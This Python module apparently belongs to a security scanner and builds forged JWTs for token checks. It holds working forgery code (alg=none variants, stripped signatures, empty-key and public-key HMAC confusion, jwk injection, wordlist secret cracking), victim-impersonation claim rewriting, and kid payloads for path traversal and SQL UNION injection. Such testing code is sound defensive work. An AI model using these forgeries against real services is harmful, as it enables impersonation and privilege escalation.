"""Pure JWT material for the token checks: parse, re-claim, forge, crack. No I/O.

Tokens are signed with PyJWT; only what PyJWT refuses is built by hand: the ``alg=none``
serialization and its other spellings, stripped or transplanted signatures, and HMAC with an
empty key or a PEM public key as the secret. The cracker is a pure function over one token and a
wordlist: it never sends anything, whatever the wordlist's length.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
import warnings
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import lru_cache
from importlib import resources
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.types import PublicKeyTypes
from cryptography.x509 import load_pem_x509_certificate

from iotvet.checks.oracle import scalars

Claims = dict[str, Any]
MARKER = "iotvet"
"""A claim every forged token carries (value: the check), so a forgery never equals an issued token."""
TIME_CLAIMS = frozenset({"iat", "nbf", "exp", "auth_time"})
SESSION_CLAIMS = frozenset({"jti", "sid", "session", "sessionid", "sessionstate", "nonce", "athash", "chash"})
_SECURITY = ("tenant", "brand", "org", "oem", "role", "group", "customer", "scope", "scp", "admin", "perm",
             "right", "authorit", "company")
HMAC_ALGS: dict[str, Callable[[], Any]] = {"HS256": hashlib.sha256, "HS384": hashlib.sha384,
                                          "HS512": hashlib.sha512}
NONE_SPELLINGS = ("none", "None", "NONE")
WRONG_KEY = b"iotvet-control-this-is-not-the-signing-key"
GARBAGE_SIGNATURE = b"iotvet-invalid"
KID_TRAVERSAL = "../../../../../../../../dev/null"
KID_SQL = "iotvet-nokey' UNION SELECT 'iotvet-kid-key' -- "
KID_SQL_KEY = b"iotvet-kid-key"
_EC_SCALAR = int.from_bytes(hashlib.sha256(b"iotvet jwk-injection key").digest(), "big") % (2**255)


def b64url(data: bytes) -> str:
    """Unpadded base64url."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def unb64url(text: str) -> bytes:
    """Decode unpadded base64url (ValueError when it is not)."""
    if not re.fullmatch(r"[A-Za-z0-9_-]*", text):
        raise ValueError("not base64url")
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _segment(obj: dict[str, Any]) -> str:
    return b64url(json.dumps(obj, separators=(",", ":")).encode())


@dataclass(frozen=True, slots=True)
class Jwt:
    """A compact JWS: header, claims, the signed text and the signature."""

    header: dict[str, Any]
    claims: Claims
    signing_input: str
    signature: bytes

    @property
    def alg(self) -> str:
        """The header's algorithm ('' when absent)."""
        return str(self.header.get("alg", ""))

    @property
    def symmetric(self) -> bool:
        """True for HMAC-signed tokens."""
        return self.alg.upper().startswith("HS")


def parse(token: str | None) -> Jwt | None:
    """The token as a JWS with a JSON object header and claims, or None for anything else (opaque tokens)."""
    if not token or token.count(".") != 2:
        return None
    head, body, sig = token.split(".")
    try:
        header = json.loads(unb64url(head))
        claims = json.loads(unb64url(body))
        signature = unb64url(sig)
    except ValueError:
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return Jwt(header, claims, f"{head}.{body}", signature)


def unsigned(header: dict[str, Any], claims: Claims) -> str:
    """``header.claims.`` with no signature (alg=none, or a stripped signature)."""
    return f"{_segment(header)}.{_segment(claims)}."


def none_token(claims: Claims, spelling: str = "none") -> str:
    """An unsigned token whose header says ``alg`` is ``spelling``."""
    return unsigned({"alg": spelling, "typ": "JWT"}, claims)


def transplant(header: dict[str, Any], claims: Claims, signature: bytes) -> str:
    """``header.claims`` with a signature made for other content (an altered signature)."""
    return f"{_segment(header)}.{_segment(claims)}.{b64url(signature)}"


def hmac_by_hand(header: dict[str, Any], claims: Claims, key: bytes) -> str:
    """HMAC-sign with any key, including the empty key and PEM text PyJWT refuses."""
    digest = HMAC_ALGS.get(str(header.get("alg", "HS256")).upper(), hashlib.sha256)
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    return f"{signing_input}.{b64url(hmac.new(key, signing_input.encode(), digest).digest())}"


def sign(header: dict[str, Any], claims: Claims, key: Any) -> str:
    """Sign with PyJWT (the algorithm from ``header``); HMAC keys PyJWT refuses are signed by hand."""
    alg = str(header.get("alg", "HS256"))
    extra = {k: v for k, v in header.items() if k != "alg"}
    try:
        with warnings.catch_warnings():  # short HMAC keys are the point of some checks
            warnings.simplefilter("ignore")
            return jwt.encode(claims, key, algorithm=alg, headers=extra)
    except jwt.exceptions.InvalidKeyError:
        if not alg.upper().startswith("HS") or not isinstance(key, bytes | str):
            raise
        return hmac_by_hand({"alg": alg, **extra}, claims, key.encode() if isinstance(key, str) else key)


def nobody_token() -> str:
    """The negative control: a token naming no identity, with a garbage signature of the wrong length."""
    return transplant({"alg": "HS256", "typ": "JWT"}, {"sub": "iotvet-nobody", MARKER: "control"},
                      GARBAGE_SIGNATURE)


def _norm(name: str) -> str:
    return re.sub(r"[^a-z0-9]", "", name.lower())


def impersonate(attacker: Claims, victim: Claims, check: str) -> tuple[Claims, list[str]]:
    """The attacker's claims naming the victim: every identity claim that differs takes the victim's value.

    Times (iat, exp ...) and session ids (sid, jti ...) stay the attacker's: a forger knows its own
    session, not the victim's. Returns the claims and the names of the claims changed.
    """
    out: Claims = {}
    changed: list[str] = []
    for key, value in attacker.items():
        if key in TIME_CLAIMS or _norm(key) in SESSION_CLAIMS or key in victim:
            out[key] = value
        else:
            changed.append(key)  # a claim only the attacker's token has (its customer ...) is dropped
    for key, value in victim.items():
        if key in TIME_CLAIMS or _norm(key) in SESSION_CLAIMS:
            out.setdefault(key, value)
            continue
        if out.get(key) != value:
            out[key] = value
            changed.append(key)
    out[MARKER] = check
    return out, sorted(set(changed))


def swap_security(attacker: Claims, victim: Claims, check: str) -> tuple[Claims, list[str]]:
    """The attacker's own subject with the victim's tenant, role and group claims."""
    out: Claims = dict(attacker)
    changed: list[str] = []
    for key, value in victim.items():
        name = _norm(key)
        if key in TIME_CLAIMS or name in SESSION_CLAIMS or not any(h in name for h in _SECURITY):
            continue  # subject claims (sub, email, username ...) stay the attacker's
        if out.get(key) != value:
            out[key] = value
            changed.append(key)
    out[MARKER] = check
    return out, sorted(changed)


def expired(claims: Claims, now: int, check: str) -> Claims:
    """The claims with ``exp`` an hour in the past (``iat``/``nbf`` moved along), far beyond any clock skew."""
    out = dict(claims)
    exp = now - 3600
    lifetime = int(claims["exp"]) - int(claims["iat"]) if isinstance(claims.get("iat"), int) and isinstance(
        claims.get("exp"), int) else 3600
    out["exp"] = exp
    for key in ("iat", "nbf", "auth_time"):
        if key in out:
            out[key] = exp - max(lifetime, 60)
    out[MARKER] = check
    return out


def claim_values(claims: Claims) -> set[str]:
    """Every scalar value in the claims as text: what a forged request itself carries."""
    return {str(node) for node in scalars(claims) if node is not None and not isinstance(node, bool)}


@lru_cache(maxsize=1)
def wordlist() -> tuple[str, ...]:
    """The built-in weak-secret wordlist (``checks/data/jwt-keys.txt``), one entry a line."""
    text = resources.files("iotvet.checks").joinpath("data/jwt-keys.txt").read_text(encoding="utf-8")
    return tuple(line for line in text.split("\n") if line)


def crack(token: Jwt, words: Sequence[str]) -> int | None:
    """The index of the word that is the token's HMAC key, or None. Pure: no request per guess."""
    digest = HMAC_ALGS.get(token.alg.upper())
    if digest is None or not token.signature:
        return None
    message = token.signing_input.encode()
    for index, word in enumerate(words):
        if hmac.compare_digest(hmac.new(word.encode(), message, digest).digest(), token.signature):
            return index
    return None


def public_keys(document: str, kid: str | None) -> list[tuple[PublicKeyTypes, bytes | None]]:
    """Public keys in a JWKS, a single JWK or PEM text (the key whose kid matches first), each with its PEM text."""
    found: list[tuple[str | None, PublicKeyTypes, bytes | None]] = []
    for block in re.findall(r"-----BEGIN [A-Z ]+-----[^-]+-----END [A-Z ]+-----\n?", document):
        raw = block.encode()
        try:
            key = (load_pem_x509_certificate(raw).public_key() if "CERTIFICATE" in block
                   else serialization.load_pem_public_key(raw))
        except ValueError:
            continue
        found.append((None, key, None if "CERTIFICATE" in block else raw))
    if not found:
        try:
            doc = json.loads(document)
        except ValueError:
            doc = None
        jwks = doc.get("keys") if isinstance(doc, dict) and "keys" in doc else [doc] if isinstance(doc, dict) else []
        for jwk in jwks if isinstance(jwks, list) else []:
            if not isinstance(jwk, dict) or jwk.get("kty") not in ("RSA", "EC"):
                continue
            try:
                key = jwt.PyJWK(jwk).key
            except (jwt.PyJWTError, ValueError, KeyError):
                continue
            if isinstance(key, rsa.RSAPublicKey | ec.EllipticCurvePublicKey):
                found.append((str(jwk.get("kid")) if "kid" in jwk else None, key, None))
    found.sort(key=lambda f: f[0] != kid)  # the token's own key first; stable otherwise
    return [(key, raw) for _, key, raw in found]


def hmac_secrets(key: PublicKeyTypes, raw: bytes | None) -> list[bytes]:
    """The byte strings a confused server may use as the HMAC secret for ``key``: its PEM forms."""
    spki = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    out = [spki, spki.rstrip(b"\n")]
    if isinstance(key, rsa.RSAPublicKey):
        out.append(key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1))
    if raw is not None:
        out.insert(0, raw)
    return list(dict.fromkeys(out))[:3]


@lru_cache(maxsize=1)
def _jwk_signer() -> ec.EllipticCurvePrivateKey:
    return ec.derive_private_key(_EC_SCALAR, ec.SECP256R1())  # fixed: the same key every run


def jwk_injected(claims: Claims, *, honest: bool = True) -> str:
    """An ES256 token carrying its own public key in the ``jwk`` header; ``honest=False`` signs with another key."""
    signer = _jwk_signer()
    public = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(signer.public_key()))
    key = signer if honest else ec.derive_private_key(_EC_SCALAR + 1, ec.SECP256R1())
    return sign({"alg": "ES256", "typ": "JWT", "jwk": public}, claims, key)


def kid_tokens(claims: Claims) -> list[tuple[str, dict[str, Any], bytes]]:
    """(label, header, key) of the kid tricks: a path to an empty file and a SQL-ish key lookup."""
    return [("kid path traversal to /dev/null, signed with the empty key",
             {"alg": "HS256", "typ": "JWT", "kid": KID_TRAVERSAL}, b""),
            ("kid with a UNION SELECT that names the key, signed with that key",
             {"alg": "HS256", "typ": "JWT", "kid": KID_SQL}, KID_SQL_KEY)]
